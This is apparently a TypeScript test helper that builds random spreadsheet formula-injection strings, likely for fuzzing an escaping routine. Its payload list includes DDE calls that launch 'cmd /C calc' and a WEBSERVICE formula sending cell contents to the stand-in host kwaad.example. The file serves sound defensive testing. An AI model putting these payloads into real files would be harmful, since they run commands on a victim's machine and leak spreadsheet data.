/** Texts that want to become a formula in a spreadsheet. */
import type { Random } from '../../src/model/ids.ts';

const openings = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212', '|', '%'];
const before = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '"',
  "'",
  ';',
  ',',
  '  \t',
  '\u0000',
];
const bodies = [
  '1+1',
  'SUM(1;2)',
  'cmd|"/C calc"!A0',
  'HYPERLINK("https://kwaad.example";"klik")',
  'WEBSERVICE("https://kwaad.example/"&A1)',
  'A1',
  "2+5+cmd|' /C calc'!A0",
  '1";=1+1;"',
  'DDE("cmd";"/C calc";"x")',
  '{1+1}',
];
const after = ['', ' ', '\n=1+1', '\r\n@SUM(1)', ';=1+1', '";"=1+1', '\t=1+1', ',=1+1'];

/** So many of them, each from chance. */
export function hostileCells(count: number, random: Random): string[] {
  const one = (choices: readonly string[]) => choices[random.below(choices.length)] ?? '';
  return Array.from({ length: count }, () => `${one(before)}${one(openings)}${one(bodies)}${one(after)}`);
}
